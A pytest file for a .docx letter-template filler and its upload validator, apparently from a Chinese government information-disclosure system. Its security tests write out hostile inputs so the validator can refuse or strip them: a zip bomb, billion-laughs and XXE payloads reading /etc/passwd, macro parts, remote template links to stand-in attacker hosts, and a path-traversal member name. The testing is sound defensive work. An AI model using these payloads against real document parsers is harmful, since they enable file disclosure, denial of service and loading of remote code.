"""The filler and the upload gate: placeholders split across runs, in tables, headers and footers, list
expansion; junk, bombs, macros, DTD entities, external references and unknown placeholders refused."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from docx.document import Document
from docx.enum.text import WD_BREAK

from tests.web.letters.docxkit import (
    add_part,
    build,
    header_footer_text,
    members,
    paragraphs,
    replace_part,
    rezip,
    runs_with,
    simple,
    text,
)
from xxgk.core.letters import SLOTS, LetterError, LetterKind, LetterSlot, Value, placeholders_for
from xxgk.web.letters import docxfill
from xxgk.web.letters.defaults import default_template
from xxgk.web.letters.docxfill import fill_docx, open_docx, scan_package, validate_template

CORRECTION = LetterSlot(LetterKind.CORRECTION)
VALUES: dict[str, Value] = {
    "申请人": "张三",
    "申请内容": "老旧小区改造批复",
    "收到申请日期": "2026年3月2日",
    "机关名称": "大渡口区八桥镇人民政府",
    "补正事项": ("1．请明确项目名称", "2．请写明年份"),
    "延期理由": "",
    "答复说明": "第一行\n第二行",
}


def _split_runs(document: Document) -> None:
    p = document.add_paragraph()
    first = p.add_run("致{{申")
    first.italic = True
    middle = p.add_run("请")
    middle.bold = True
    p.add_run("人}}：您好")


def test_a_placeholder_split_across_runs_is_filled_with_the_formatting_of_its_first_run() -> None:
    template = build(_split_runs)
    letter = fill_docx(template, VALUES)
    assert paragraphs(letter) == ["致张三：您好"]
    (run,) = runs_with(letter, "张三")
    assert run == ("致张三", None, True)  # italic like 致{{申, not bold like 请
    assert "{{" not in text(letter)


def test_tables_nested_tables_headers_and_footers_are_filled() -> None:
    def make(document: Document) -> None:
        table = document.add_table(rows=2, cols=2)
        table.cell(0, 0).text = "申请人"
        table.cell(0, 1).text = "{{申请人}}"
        table.cell(1, 0).text = "内容"
        inner = table.cell(1, 1).add_table(rows=1, cols=1)
        inner.cell(0, 0).text = "“{{申请内容}}”"
        section = document.sections[0]
        section.header.paragraphs[0].text = "{{机关名称}}"
        section.footer.paragraphs[0].text = "收到日期：{{收到申请日期}}"

    letter = fill_docx(build(make), VALUES)
    body = paragraphs(letter)
    assert "张三" in body and "“老旧小区改造批复”" in body
    hf = header_footer_text(letter)
    assert "大渡口区八桥镇人民政府" in hf and "收到日期：2026年3月2日" in hf
    assert "{{" not in text(letter)


def test_a_list_placeholder_repeats_its_paragraph_once_per_item_with_its_formatting() -> None:
    def make(document: Document) -> None:
        document.add_paragraph("请补正：")
        item = document.add_paragraph()
        item.paragraph_format.left_indent = docx.shared.Pt(24)
        item.add_run("{{补正事项}}").bold = True
        document.add_paragraph("此致")

    letter = fill_docx(build(make), VALUES)
    assert paragraphs(letter) == ["请补正：", "1．请明确项目名称", "2．请写明年份", "此致"]
    document = docx.Document(io.BytesIO(letter))
    copies = document.paragraphs[1:3]
    assert all(p.paragraph_format.left_indent == docx.shared.Pt(24) for p in copies)
    assert all(p.runs[0].bold for p in copies)
    empty = fill_docx(build(make), {**VALUES, "补正事项": ()})
    assert paragraphs(empty) == ["请补正：", "此致"]


def test_a_list_in_a_table_cell_and_an_empty_list_keeps_the_cell_valid() -> None:
    def make(document: Document) -> None:
        table = document.add_table(rows=1, cols=1)
        table.cell(0, 0).text = "{{补正事项}}"

    letter = fill_docx(build(make), VALUES)
    assert paragraphs(letter) == ["1．请明确项目名称", "2．请写明年份"]
    empty = fill_docx(build(make), {**VALUES, "补正事项": ()})
    assert paragraphs(empty) == [""]  # the cell keeps its one paragraph
    docx.Document(io.BytesIO(empty))


def test_blank_paragraphs_left_by_empty_values_are_removed_and_line_breaks_kept() -> None:
    letter = fill_docx(simple("开头", "{{延期理由}}", "理由：{{答复说明}}", "结尾"), VALUES)
    assert paragraphs(letter) == ["开头", "理由：第一行\n第二行", "结尾"]
    document = docx.Document(io.BytesIO(letter))
    assert document.paragraphs[1]._p.xml.count("<w:br/>") == 1


def test_spaces_inside_braces_are_allowed_but_a_tab_or_break_inside_a_placeholder_is_not() -> None:
    assert paragraphs(fill_docx(simple("{{ 申请人 }}"), VALUES)) == ["张三"]

    def broken(document: Document) -> None:
        p = document.add_paragraph("{{申")
        p.add_run().add_break(WD_BREAK.LINE)
        p.add_run("请人}}")

    with pytest.raises(LetterError, match="占位符不完整"):
        validate_template(build(broken), CORRECTION)
    with pytest.raises(LetterError, match="占位符不完整"):
        validate_template(simple("致{{申请人："), CORRECTION)


def test_every_other_part_is_copied_unchanged() -> None:
    template = simple("{{申请人}}")
    before, after = members(template), members(fill_docx(template, VALUES))
    assert set(before) == set(after)
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {"word/document.xml"}


def test_unknown_and_unavailable_placeholders_are_listed_by_name() -> None:
    template = simple("{{申请人}}，身份证号{{身份证号码}}", "电话{{电话}}，{{收费金额}}元，{{身份证号码}}")
    with pytest.raises(LetterError) as caught:
        validate_template(template, CORRECTION)
    message = caught.value.message
    assert "{{身份证号码}}" in message and "{{电话}}" in message and "{{收费金额}}" in message
    assert message.count("{{身份证号码}}") == 1 and "{{申请人}}" not in message
    with pytest.raises(LetterError, match="无法填写的占位符"):
        fill_docx(template, VALUES)


def test_two_lists_in_one_paragraph_are_refused() -> None:
    reply = LetterSlot(LetterKind.REPLY, "partial")
    with pytest.raises(LetterError, match="只能有一个列表占位符"):
        validate_template(simple("{{不予公开部分}}{{补正事项}}"), LetterSlot(LetterKind.CORRECTION))
    with pytest.raises(LetterError, match="只能有一个列表占位符"):
        fill_docx(simple("{{补正事项}}{{不予公开部分}}"), {**VALUES, "不予公开部分": ("x",)})
    validate_template(simple("{{不予公开部分}}", "{{申请人}}"), reply)


@pytest.mark.parametrize("slot", SLOTS, ids=lambda s: s.code)
def test_every_default_template_is_accepted_and_fills_without_leftovers(slot: LetterSlot) -> None:
    template = default_template(slot)
    scan = validate_template(template, slot)
    assert set(scan.names) <= {p.name for p in placeholders_for(slot.kind)}
    values: dict[str, Value] = {
        p.name: (("甲", "乙") if p.is_list else f"〔{p.name}〕") for p in placeholders_for(slot.kind)
    }
    letter = fill_docx(template, values)
    assert "{{" not in text(letter) and "}}" not in text(letter)
    assert paragraphs(letter)[0] == slot.title
    assert "〔机关名称〕" in text(letter)


def test_default_template_layout_a4_and_chinese_fonts() -> None:
    document = docx.Document(io.BytesIO(default_template(CORRECTION)))
    section = document.sections[0]
    width, height = section.page_width, section.page_height
    assert width is not None and height is not None
    assert (round(width.mm), round(height.mm)) == (210, 297)
    xml = document.element.xml
    assert 'w:eastAsia="方正小标宋简体"' in xml and 'w:eastAsia="仿宋_GB2312"' in xml
    assert "PAGE" in section.footer._element.xml


# -- the upload gate ----------------------------------------------------------------------------------------


def _refused(data: bytes, match: str) -> None:
    with pytest.raises(LetterError, match=match):
        validate_template(data, CORRECTION)


def test_junk_is_refused_with_a_clear_message() -> None:
    _refused(b"", "空的")
    _refused("这不是Word文档".encode(), "不是ZIP格式")
    _refused(b"PK\x03\x04" + b"\x00" * 100, "不是ZIP格式")
    _refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "旧版Word文档")
    _refused(rezip({"a.txt": b"hello"}), "缺少Word文档正文")
    strict = members(simple("x"))["word/document.xml"].replace(
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    )
    _refused(replace_part(simple("x"), "word/document.xml", strict), "Strict")
    template = simple("{{申请人}}")
    _refused(replace_part(template, "word/document.xml", b"<w:document><w:body>"), "不是有效的XML")
    _refused(template[: len(template) // 2], "不是ZIP格式|已损坏")
    _refused(b"PK\x03\x04" + b"\x00" * (docxfill.MAX_UPLOAD_BYTES + 1), "超过")


def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    bomb = add_part(simple("{{申请人}}"), "word/media/image1.png", b"\x00" * (docxfill.MAX_UNPACKED_BYTES + 1))
    assert len(bomb) < docxfill.MAX_UPLOAD_BYTES  # small on the wire
    _refused(bomb, "压缩炸弹")


def test_a_member_larger_than_its_header_claims_is_refused() -> None:
    big = b"<a>" + b"x" * (docxfill.MAX_UNPACKED_BYTES + 10) + b"</a>"
    data = add_part(simple("{{申请人}}"), "word/custom.xml", big)
    raw = bytearray(data)
    # shrink the declared uncompressed size of that member in its local header and the central directory
    name = b"word/custom.xml"
    for pos in _all(raw, name):
        header = pos - 30 if raw[pos - 30 : pos - 26] == b"PK\x03\x04" else pos - 46
        if raw[header : header + 4] == b"PK\x03\x04":
            raw[header + 22 : header + 26] = (100).to_bytes(4, "little")
        elif raw[header : header + 4] == b"PK\x01\x02":
            raw[header + 24 : header + 28] = (100).to_bytes(4, "little")
    _refused(bytes(raw), "压缩炸弹|已损坏")


def _all(data: bytearray, needle: bytes) -> list[int]:
    out, start = [], 0
    while (pos := data.find(needle, start)) != -1:
        out.append(pos)
        start = pos + 1
    return out


def test_dtd_and_entity_declarations_are_refused_before_parsing() -> None:
    template = simple("{{申请人}}")
    original = members(template)["word/document.xml"]
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        + original.split(b"?>", 1)[1].replace(b"{{", b"&lol2;{{", 1)
    )
    _refused(replace_part(template, "word/document.xml", laughs), "DTD")
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    _refused(replace_part(template, "word/styles.xml", xxe), "DTD")
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><x/>'.encode("utf-16")
    _refused(replace_part(template, "docProps/app.xml", utf16), "DTD")


def test_macros_activex_and_templates_are_refused() -> None:
    template = simple("{{申请人}}")
    _refused(add_part(template, "word/vbaProject.bin", b"\x00" * 10), "宏")
    _refused(add_part(template, "word/activeX/activeX1.xml", b"<x/>"), "宏")
    types = members(template)["[Content_Types].xml"]
    macro = types.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    _refused(replace_part(template, "[Content_Types].xml", macro), "宏")
    dotx = types.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    _refused(replace_part(template, "[Content_Types].xml", dotx), "模板文件")


def test_external_references_are_refused_but_hyperlinks_are_fine() -> None:
    template = simple("{{申请人}}")
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    _refused(add_part(template, "word/_rels/settings.xml.rels", rels), "外部资源")
    link = rels.replace(b"attachedTemplate", b"hyperlink")
    validate_template(add_part(template, "word/_rels/settings.xml.rels", link), CORRECTION)


def test_a_link_to_an_external_word_template_is_removed_on_upload() -> None:
    template = simple("{{申请人}}")
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="file://attacker/share/x.dotm" TargetMode="External"/></Relationships>'
    )
    settings = members(template)["word/settings.xml"]
    settings = settings.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rId9"/></w:settings>')
    if b"xmlns:r=" not in settings.split(b">", 2)[1]:
        settings = settings.replace(
            b"<w:settings ",
            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    linked = add_part(replace_part(template, "word/settings.xml", settings), "word/_rels/settings.xml.rels", rels)
    _refused(linked, "外部资源")  # as it is
    clean, stripped = docxfill.sanitize_template(linked)
    assert stripped and b"attacker" not in b"".join(members(clean).values())
    assert b"attachedTemplate" not in members(clean)["word/settings.xml"]
    validate_template(clean, CORRECTION)
    assert docxfill.sanitize_template(clean) == (clean, False)


def test_odd_member_names_and_encryption_are_refused() -> None:
    template = simple("{{申请人}}")
    _refused(add_part(template, "../evil.xml", b"<x/>"), "不合法")
    parts = members(template)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    raw = bytearray(buffer.getvalue())
    for pos in _all(raw, b"PK\x01\x02"):
        raw[pos + 8] |= 0x1  # the "encrypted" flag in the central directory
    _refused(bytes(raw), "加密")


def test_scan_reports_names_in_order_with_repeats() -> None:
    scan = scan_package(open_docx(simple("{{申请人}}{{申请内容}}", "{{申请人}}")))
    assert scan.names == ("申请人", "申请内容", "申请人") and scan.problems == ()


def test_text_boxes_are_paragraphs_of_their_own() -> None:
    template = simple("MARK")
    xml = members(template)["word/document.xml"]
    box = (
        b"<w:r><w:t>{{</w:t></w:r><w:r><w:pict><v:shape><v:textbox><w:txbxContent>"
        b"<w:p><w:r><w:t>{{\xe7\x94\xb3\xe8\xaf\xb7\xe4\xba\xba}}</w:t></w:r></w:p>"  # {{申请人}}
        b"</w:txbxContent></v:textbox></v:shape></w:pict></w:r><w:r><w:t>}}</w:t></w:r>"
    )
    template = replace_part(template, "word/document.xml", xml.replace(b"<w:r><w:t>MARK</w:t></w:r>", box))
    # the outer paragraph's braces are split by the drawing: a broken placeholder, not one spanning the box
    with pytest.raises(LetterError, match="占位符不完整"):
        validate_template(template, CORRECTION)
    fixed = replace_part(
        template,
        "word/document.xml",
        members(template)["word/document.xml"].replace(b"<w:t>{{</w:t>", b"<w:t>A</w:t>", 1),
    )
    fixed = replace_part(
        fixed, "word/document.xml", members(fixed)["word/document.xml"].replace(b"<w:t>}}</w:t>", b"<w:t>B</w:t>")
    )
    letter = members(fill_docx(fixed, VALUES))["word/document.xml"].decode()
    assert "<w:t>A</w:t>" in letter and '<w:t xml:space="preserve">张三</w:t>' in letter and "{{" not in letter
